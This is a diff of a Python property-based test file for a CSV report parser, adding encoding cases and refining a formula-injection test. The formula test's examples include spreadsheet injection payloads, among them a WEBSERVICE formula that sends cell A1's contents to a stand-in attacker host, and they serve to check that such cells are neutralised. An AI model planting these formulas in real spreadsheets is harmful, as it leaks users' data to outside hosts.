@@ -115,6 +115,7 @@ def test_truncations_of_the_real_report(data: st.DataObject) -> None:
 )
 @example("utf-16", "Café mug")
 @example("cp1252", "Mug \u2019 \u20ac")  # curly quote and euro: bytes 0x92, 0x80
+@example("utf-16-le", "Plain mug")  # regression: UTF-16 without a BOM was called "binary"
 def test_encodings(encoding: str, title: str) -> None:
     row = [title if i == TITLE else cell for i, cell in enumerate(GOOD_ROW)]
     text = csv_text([HEADER, row])
@@ -123,6 +124,8 @@ def test_encodings(encoding: str, title: str) -> None:
     except UnicodeEncodeError:
         data = text.encode(encoding, errors="replace")
     outcome = assert_clear_outcome(data)
+    if encoding.startswith("utf-16"):
+        assert isinstance(outcome, ReportError) and "UTF-16" in outcome.problem, outcome
     if isinstance(outcome, ReportError) and encoding in ("latin-1", "cp1252"):
         # A one-byte encoding is refused at the byte that is not UTF-8: the message says where.
         assert _POINTS_AT.search(outcome.problem), outcome
@@ -167,13 +170,18 @@ FORMULA_PREFIXES = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "|", "=HYPER
 
 
 @FUZZ
-@given(FORMULA_PREFIXES, st.text(max_size=60), st.sampled_from(HEADER))
+@given(
+    FORMULA_PREFIXES,
+    st.text(st.characters(exclude_characters="\x00"), max_size=60),
+    st.sampled_from(HEADER),
+)
 @example("=", 'HYPERLINK("https://evil.example","click")', "Item Title")
 @example("=", 'WEBSERVICE("https://evil.example/?"&A1)', "Item Price")
 def test_formula_cells(prefix: str, rest: str, column: str) -> None:
     row = row_with(column, prefix + rest)
     outcome = assert_clear_outcome(report_with([row]))
-    if column == "Item Title" and prefix.startswith(("=", "+", "@")) and rest.strip():
+    one_line = len((prefix + rest).splitlines()) == 1  # the reader reads line by line
+    if column == "Item Title" and prefix.startswith(("=", "+", "@")) and rest.strip() and one_line:
         # A formula title is data: the row is kept, its title as text (the exports neutralise it).
         assert isinstance(outcome, ParsedReport) and len(outcome.rows) == 1, outcome
         assert outcome.rows["item_title"].iloc[0].startswith(prefix), outcome.rows.iloc[0]
